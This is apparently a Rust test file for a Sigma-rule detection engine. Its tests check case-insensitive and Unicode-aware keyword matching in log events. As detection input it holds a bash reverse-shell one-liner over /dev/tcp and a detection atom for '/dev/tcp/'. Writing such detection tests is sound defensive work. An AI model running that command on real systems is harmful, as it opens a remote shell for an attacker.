//! The prefilter scans pure-ASCII values as they are in the event, with an
//! automaton that folds ASCII case, and lower-cases every other value first
//! (`qalqan_sigma::dense`). These rules carry more than 64 atoms per field,
//! so their fields get no packed presence check and take that direct path;
//! every check runs through the optimized and the reference evaluator.

mod common;

use common::{event, hit, s};
use qalqan_core::Value;

/// A detection whose `sel` item on `field` (or keywords, with `field`
/// empty) lists `values` after 70 filler values.
fn many(field: &str, modifiers: &str, values: &[&str]) -> String {
    let mut d = String::new();
    if field.is_empty() {
        d.push_str("sel:\n");
    } else {
        d.push_str(&format!("sel:\n    {field}{modifiers}:\n"));
    }
    let indent = if field.is_empty() { "    " } else { "        " };
    for i in 0..70 {
        d.push_str(&format!("{indent}- 'filler{i:02}value'\n"));
    }
    for v in values {
        d.push_str(&format!("{indent}- '{v}'\n"));
    }
    d.push_str("condition: sel");
    d
}

fn raw(line: &str) -> qalqan_core::Event {
    event(line, &[])
}

fn field(name: &str, v: &str) -> qalqan_core::Event {
    event("raw line", &[(name, s(v))])
}

#[test]
fn keywords_match_ascii_raw_lines_in_any_case() {
    let d = many("", "", &["EvilCmd", "/dev/tcp/"]);
    assert!(hit(&d, &raw("sshd[1]: run EVILCMD now")));
    assert!(hit(&d, &raw("sshd[1]: run evilcmd now")));
    assert!(hit(&d, &raw("bash -i >& /DEV/TCP/10.0.0.1/4444 0>&1")));
    assert!(!hit(&d, &raw("sshd[1]: run evil cmd now")));
    assert!(hit(&d, &raw("FILLER07VALUE")));
}

#[test]
fn unicode_text_around_a_match() {
    let d = many("", "", &["EvilCmd"]);
    assert!(hit(&d, &raw("Привет EVILCMD мир")));
    assert!(hit(&d, &raw("ÄÖÜ evilcmd")));
    assert!(!hit(&d, &raw("Привет EVIL CMD мир")));
    let d = many("CommandLine", "|contains", &["EvilCmd"]);
    assert!(hit(&d, &field("CommandLine", "« EVILCMD » – ok")));
    assert!(!hit(&d, &field("CommandLine", "« EVIL » – ok")));
}

#[test]
fn non_ascii_case_folding() {
    // the Kelvin sign lower-cases to an ASCII k
    let d = many("", "", &["kelvin"]);
    assert!(hit(&d, &raw("temp 300 \u{212A}ELVIN")));
    assert!(hit(&d, &raw("temp 300 KELVIN")));
    // non-ASCII atoms: capitals outside ASCII fold too
    let d = many("", "", &["Ünïcode"]);
    assert!(hit(&d, &raw("x ÜNÏCODE y")));
    assert!(hit(&d, &raw("x ünïcode y")));
    assert!(!hit(&d, &raw("x UNICODE y")));
    // capital I with dot lower-cases to i + combining dot: an ASCII I does not
    let d = many("", "", &["İstanbul"]);
    assert!(hit(&d, &raw("to İSTANBUL")));
    assert!(!hit(&d, &raw("to ISTANBUL")));
    let d = many("City", "", &["istanbul"]);
    assert!(hit(&d, &field("City", "ISTANBUL")));
    assert!(!hit(&d, &field("City", "İSTANBUL")));
}

#[test]
fn cased_values_are_still_exact() {
    let d = many("CommandLine", "|contains|cased", &["EvilCmd"]);
    assert!(hit(&d, &field("CommandLine", "run EvilCmd now")));
    assert!(!hit(&d, &field("CommandLine", "run EVILCMD now")));
    assert!(!hit(&d, &field("CommandLine", "run evilcmd now")));
    assert!(!hit(&d, &field("CommandLine", "run ÉvilCmd now")));
    let d = many("", "", &[]);
    let d = d
        .replace("sel:\n", "sel:\n    '|cased':\n")
        .replace("\n    - ", "\n        - ");
    assert!(!hit(&d, &raw("FILLER07VALUE")));
    assert!(hit(&d, &raw("filler07value")));
}

#[test]
fn lists_and_numbers_take_the_lower_cased_path() {
    let d = many("Tags", "|contains", &["EvilTag", "4444"]);
    let list = |xs: &[&str]| Value::List(xs.iter().map(|x| s(x)).collect());
    assert!(hit(
        &d,
        &event("raw", &[("Tags", list(&["benign", "x EVILTAG y"]))])
    ));
    assert!(!hit(
        &d,
        &event("raw", &[("Tags", list(&["benign", "evil tag"]))])
    ));
    assert!(hit(&d, &event("raw", &[("Tags", Value::Int(14444))])));
}
